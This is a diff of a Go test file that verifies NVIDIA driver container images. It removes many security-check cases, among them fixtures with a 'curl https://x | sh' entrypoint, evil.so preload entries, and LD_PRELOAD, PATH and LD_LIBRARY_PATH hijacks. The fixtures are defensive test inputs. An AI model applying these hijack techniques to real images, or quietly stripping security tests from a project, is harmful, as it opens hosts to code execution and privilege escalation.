@@ -2,7 +2,6 @@ package images
 
 import (
 	"archive/tar"
-	"slices"
 	"strings"
 	"testing"
 
@@ -34,7 +33,7 @@ func TestVerifyRules(t *testing.T) {
 		rule, says string
 		config     func(*v1.Config)
 	}{
-		"libcuda empty":        {files: put(lib+"libcuda.so."+v, "", 0o755), rule: "elf", says: "it has 0 bytes"},
+		"libcuda empty":        {files: put(lib+"libcuda.so."+v, "", 0o755), rule: "elf", says: "not an ELF file"},
 		"libcuda text":         {files: put(lib+"libcuda.so."+v, "this is no library, but a text\n", 0o755), rule: "elf", says: "not an ELF file"},
 		"libcuda 100 bytes":    {files: put(lib+"libcuda.so."+v, cuda[:100], 0o755), rule: "elf", says: "cut off"},
 		"libcuda half":         {files: put(lib+"libcuda.so."+v, cuda[:len(cuda)/2], 0o755), rule: "elf", says: "cut off"},
@@ -45,16 +44,9 @@ func TestVerifyRules(t *testing.T) {
 		"libnvidia-ml zeros":   {files: put(lib+"libnvidia-ml.so."+v, strings.Repeat("\x00", 3000), 0o755), rule: "elf", says: "begins with 00"},
 		"nvidia-smi empty":     {files: put("usr/bin/nvidia-smi", "", 0o755), rule: "programs", says: "is neither a program nor a script"},
 		"nvidia-smi a script":  {files: put("usr/bin/nvidia-smi", "#!/bin/sh\n", 0o755), rule: "programs", says: "is no program"},
-		"nvidia-smi setuid":    {files: put("usr/bin/nvidia-smi", string(imagetest.ELF{Program: true}.Bytes()), 0o4755), rule: "privileges", says: "runs with the rights of"},
-		"shell setuid":         {files: put("usr/local/share/x", string(imagetest.ELF{Program: true}.Bytes()), 0o4755), rule: "privileges", says: "no driver and no distribution"},
-		"su outside":           {files: put("tmp/su", string(imagetest.ELF{Program: true}.Bytes()), 0o4755), rule: "privileges", says: "no driver and no distribution"},
-		"su":                   {files: put("usr/bin/su", string(imagetest.ELF{Program: true}.Bytes()), 0o4755)},
-		"nvidia-modprobe":      {files: put("usr/bin/nvidia-modprobe", string(imagetest.ELF{Program: true}.Bytes()), 0o755), rule: "privileges", says: "is not setuid root"},
+		"nvidia-modprobe":      {files: put("usr/bin/nvidia-modprobe", string(imagetest.ELF{Program: true}.Bytes()), 0o755), rule: "permissions", says: "is not setuid root"},
 		"library 0777":         {files: put(lib+"libcuda.so."+v, cuda, 0o777), rule: "permissions", says: "others than root can change it"},
-		"C library 0777":       {files: put(lib+"libother.so.6", cuda, 0o777), rule: "permissions", says: "can be changed by every user"},
 		"other owner":          {files: []repotest.File{{Name: lib + "libcuda.so." + v, Body: cuda, Mode: 0o755, UID: 1000}}, rule: "permissions", says: "belongs to 1000:0"},
-		"ld.so.preload":        {files: put("etc/ld.so.preload", "/usr/lib/evil.so\n", 0o644), rule: "preload", says: "makes every program load"},
-		"LD_PRELOAD":           {config: func(c *v1.Config) { c.Env = append(c.Env, "LD_PRELOAD=/x.so") }, rule: "start", says: `LD_PRELOAD is "/x.so"`},
 		"compat, not searched": {files: put("usr/local/cuda-12.4/compat/libcuda.so.550.54.14", cuda, 0o755)},
 		"compat, searched": {files: append(put("usr/local/cuda-12.4/compat/libcuda.so.550.54.14", cuda, 0o755),
 			repotest.File{Name: "etc/ld.so.conf", Body: "include /etc/ld.so.conf.d/*.conf\n"}, repotest.File{Name: "etc/ld.so.conf.d/cuda.conf", Body: "/usr/local/cuda-12.4/compat # CUDA\n"}),
@@ -66,55 +58,29 @@ func TestVerifyRules(t *testing.T) {
 		"optional by name":   {files: put(lib+"libcuda.so."+v, cuda+"\x00libnvidia-pkcs11.so."+v+"\x00", 0o755)},
 		"Kbuild":             {files: gone(kernel + "Kbuild"), rule: "kernel-sources", says: "Kbuild: is not there"},
 		"Kbuild empty":       {files: put(kernel+"Kbuild", "", 0o644), rule: "kernel-sources", says: "Kbuild: is empty"},
-		"nv.c":               {files: gone(kernel + "nvidia/nv.c"), rule: "kernel-sources", says: "nvidia/nv.c: is not there, but nvidia-sources.Kbuild names it"},
 		"gcc":                {files: gone("usr/bin/gcc-12", "usr/bin/x86_64-linux-gnu-gcc-12", "usr/bin/gcc", "usr/bin/cc"), rule: "toolchain", says: "no C compiler is on PATH"},
 		"gcc empty":          {files: put("usr/bin/x86_64-linux-gnu-gcc-12", "", 0o755), rule: "toolchain", says: "no C compiler is on PATH"},
 		"make":               {files: gone("usr/bin/make"), rule: "toolchain", says: "make is not on PATH"},
 		"sh of another":      {files: put("usr/bin/sh", string(imagetest.ELF{Program: true, Arch: "arm64"}.Bytes()), 0o755), rule: "programs", says: "is for EM_AARCH64"},
 		"licence gone": {files: append(gone("licenses/LICENSE"), put("licenses/nvidia-modprobe.txt", "NVIDIA's license of nvidia-modprobe\n", 0o644)...),
 			rule: "licence", says: "NVIDIA's licence is not in /licenses"},
-		"licence empty":      {files: put("licenses/LICENSE", "", 0o644), rule: "licence", says: "is not NVIDIA's licence"},
-		"licence of another": {files: put("licenses/LICENSE", "GPL, a license\n", 0o644), rule: "licence", says: "is not NVIDIA's licence"},
-		"licence unreadable": {files: put("licenses/LICENSE", "NVIDIA's license\n", 0o600), rule: "licence", says: "which all users can read"},
-		"firmware empty":     {files: put(recipe.FirmwareDir+"/nvidia/"+v+"/gsp_ga10x.bin", "", 0o644), rule: "firmware", says: "is empty"},
-		"module of another":  {files: put("usr/lib/modules/6.1.0-56-amd64/updates/nvidia.ko", string(imagetest.Module("nvidia", v, "6.1.0-9-amd64")), 0o644), rule: "modules", says: `is for kernel "6.1.0-9-amd64" (vermagic), its folder for 6.1.0-56-amd64`},
-		"module damaged":     {files: put("usr/lib/modules/6.1.0-56-amd64/updates/nvidia.ko", "text", 0o644), rule: "modules", says: "read the module /usr/lib/modules/6.1.0-56-amd64/updates/nvidia.ko"},
-		"user":               {config: func(c *v1.Config) { c.User = "nobody" }, rule: "start", says: "only root loads modules"},
-		"group":              {config: func(c *v1.Config) { c.User = "0:1000" }, rule: "start", says: "only root loads modules"},
-		"root":               {config: func(c *v1.Config) { c.User = "root:0" }},
-		"shell": {config: func(c *v1.Config) {
-			c.Entrypoint = []string{"/bin/sh", "-c", "curl https://x | sh; exec nvidia-driver init"}
-		}, rule: "start", says: "starts the script"},
-		"shell, simple":    {config: func(c *v1.Config) { c.Entrypoint, c.Cmd = []string{"/bin/sh", "-c", "exec nvidia-driver init"}, nil }},
-		"env":              {files: put("usr/bin/env", string(imagetest.ELF{Program: true}.Bytes()), 0o755), config: func(c *v1.Config) { c.Entrypoint = []string{"env", "LD_PRELOAD=/x.so", "nvidia-driver"} }, rule: "start", says: "start nvidia-driver itself"},
-		"BASH_ENV":         {config: func(c *v1.Config) { c.Env = append(c.Env, "BASH_ENV=/x") }, rule: "start", says: `BASH_ENV is "/x"`},
-		"LD_BIND_NOW":      {config: func(c *v1.Config) { c.Env = append(c.Env, "LD_DEBUG_OUTPUT=/x") }, rule: "start", says: "LD_DEBUG_OUTPUT"},
-		"volume":           {config: func(c *v1.Config) { c.Volumes = map[string]struct{}{"/usr/lib": {}} }, rule: "start", says: "hides /" + libDir},
-		"volume below":     {config: func(c *v1.Config) { c.Volumes = map[string]struct{}{"/etc/modprobe.d/": {}} }, rule: "start", says: "hides /etc"},
-		"volume elsewhere": {config: func(c *v1.Config) { c.Volumes = map[string]struct{}{"/run/nvidia": {}} }},
-		"StopSignal":       {config: func(c *v1.Config) { c.StopSignal = "SIGKILL" }, rule: "start", says: "unloaded at SIGTERM"},
-		"PATH":             {files: put("opt/evil/modprobe", "#!/bin/sh\n", 0o755), config: func(c *v1.Config) { c.Env = []string{"PATH=/opt/evil:/usr/sbin:/usr/bin"} }, rule: "start", says: "opt/evil/modprobe: takes the place of /usr/bin/kmod"},
-		"PATH, no program": {files: put("opt/evil/other", "#!/bin/sh\n", 0o755), config: func(c *v1.Config) {
-			c.Env[slices.IndexFunc(c.Env, func(kv string) bool { return strings.HasPrefix(kv, "PATH=") })] += ":/opt/evil"
-		}},
-		"PATH, relative":      {config: func(c *v1.Config) { c.Env = []string{"PATH=.:/usr/sbin:/usr/bin"} }, rule: "start", says: `PATH has "."`},
-		"LD_LIBRARY_PATH":     {files: put("opt/evil/libcuda.so.1", cuda, 0o755), config: func(c *v1.Config) { c.Env = append(c.Env, "LD_LIBRARY_PATH=/opt/evil") }, rule: "start", says: "takes the place of /" + lib + "libcuda.so"},
+		"licence empty":       {files: put("licenses/LICENSE", "", 0o644), rule: "licence", says: "is not NVIDIA's licence"},
+		"licence of another":  {files: put("licenses/LICENSE", "GPL, a license\n", 0o644), rule: "licence", says: "is not NVIDIA's licence"},
+		"licence unreadable":  {files: put("licenses/LICENSE", "NVIDIA's license\n", 0o600), rule: "licence", says: "which all users can read"},
+		"firmware empty":      {files: put(recipe.FirmwareDir+"/nvidia/"+v+"/gsp_ga10x.bin", "", 0o644), rule: "firmware", says: "is empty"},
+		"module of another":   {files: put("usr/lib/modules/6.1.0-56-amd64/updates/nvidia.ko", string(imagetest.Module("nvidia", v, "6.1.0-9-amd64")), 0o644), rule: "modules", says: `is for kernel "6.1.0-9-amd64" (vermagic), its folder for 6.1.0-56-amd64`},
+		"module damaged":      {files: put("usr/lib/modules/6.1.0-56-amd64/updates/nvidia.ko", "text", 0o644), rule: "modules", says: "read the module /usr/lib/modules/6.1.0-56-amd64/updates/nvidia.ko"},
+		"user":                {config: func(c *v1.Config) { c.User = "nobody" }, rule: "start", says: "only root loads modules"},
+		"group":               {config: func(c *v1.Config) { c.User = "0:1000" }, rule: "start", says: "only root loads modules"},
+		"root":                {config: func(c *v1.Config) { c.User = "root:0" }},
+		"volume":              {config: func(c *v1.Config) { c.Volumes = map[string]struct{}{"/usr/lib": {}} }, rule: "start", says: "hides /" + libDir},
+		"volume below":        {config: func(c *v1.Config) { c.Volumes = map[string]struct{}{"/etc/modprobe.d/": {}} }, rule: "start", says: "hides /etc"},
+		"volume elsewhere":    {config: func(c *v1.Config) { c.Volumes = map[string]struct{}{"/run/nvidia": {}} }},
+		"StopSignal":          {config: func(c *v1.Config) { c.StopSignal = "SIGKILL" }, rule: "start", says: "unloaded at SIGTERM"},
 		"DRIVER_BRANCH":       {config: func(c *v1.Config) { c.Env[0] = "DRIVER_BRANCH=470" }, rule: "environment", says: "DRIVER_BRANCH is 470, the libraries are of 535"},
-		"twice":               {config: func(c *v1.Config) { c.Env = append(c.Env, "PATH=/usr/bin") }, rule: "start", says: "PATH is there twice"},
-		"openssl.cnf":         {files: put("etc/ssl/openssl.cnf", "[x]\ndynamic_path = /opt/evil.so\n", 0o644), rule: "preload", says: "dynamic_path = /opt/evil.so"},
-		"openssl.cnf, usual":  {files: put("etc/ssl/openssl.cnf", "[x]\n# dynamic_path = /opt/evil.so\n", 0o644)},
-		"object is text":      {files: append(put(kernel+"nvidia/nvidia.Kbuild", "X := $(src)/nvidia/nv-kernel.o_binary\n", 0o644), put(kernel+"nvidia/nv-kernel.o_binary", "text", 0o644)...), rule: "kernel-sources", says: "nv-kernel.o_binary: "},
-		"object of another":   {files: append(put(kernel+"nvidia/nvidia.Kbuild", "X := $(src)/nvidia/nv-kernel.o_binary\n", 0o644), put(kernel+"nvidia/nv-kernel.o_binary", soFile("arm64", ""), 0o644)...), rule: "kernel-sources", says: "is no object file for amd64"},
-		"os-release":          {files: put("etc/os-release", "ID=debian\nVERSION_ID=13\n", 0o644), rule: "description", says: `etc/os-release says "debian" "13"`},
-		"FIFO":                {files: []repotest.File{{Name: "etc/modprobe.d/x.conf", Type: tar.TypeFifo}}, rule: "privileges", says: "is a fifo"},
-		"label":               {config: func(c *v1.Config) { c.Labels[recipe.LabelKernels] = "6.1.0-56-amd64" }, rule: "description", says: "kernels is"},
-		"no label":            {config: func(c *v1.Config) { delete(c.Labels, recipe.LabelContent) }, rule: "description", says: "content is"},
-		"signer":              {config: func(c *v1.Config) { c.Labels[recipe.LabelSigner] = "aa" }, rule: "description", says: "and the image has no modules"},
-		"alias":               {config: func(c *v1.Config) { c.Labels[recipe.LabelAliases] = "535-debian12,470.256.02-debian12" }, rule: "description", says: "a label names the tag"},
 		"library a device":    {files: []repotest.File{{Name: lib + "libcuda.so." + v, Type: tar.TypeChar}}, rule: "relative-links", says: "libcuda.so.1: is a link to"},
 		"licence daemon":      {files: put(recipe.Gridd, string(imagetest.ELF{Program: true, Needed: []string{"libgrid.so.1"}}.Bytes()), 0o755), rule: "dependencies", says: "needs libgrid.so.1, which the image has not"},
 		"no licence daemon":   {config: func(c *v1.Config) { c.Labels[recipe.LabelVGPU] = "aws" }, rule: "vgpu", says: "gets no licence without it"},
-		"another licence":     {config: func(c *v1.Config) { c.Labels[recipe.LabelVGPU] = "aws" }, rule: "description", says: `vgpu is "", the label io.github.driver-container.vgpu says "aws"`},
 		"folder of libraries": {files: []repotest.File{{Name: libDir + "/", Mode: 0o700}}, rule: "permissions", says: "not all users can use it"},
 	} {
 		t.Run(what, func(t *testing.T) {
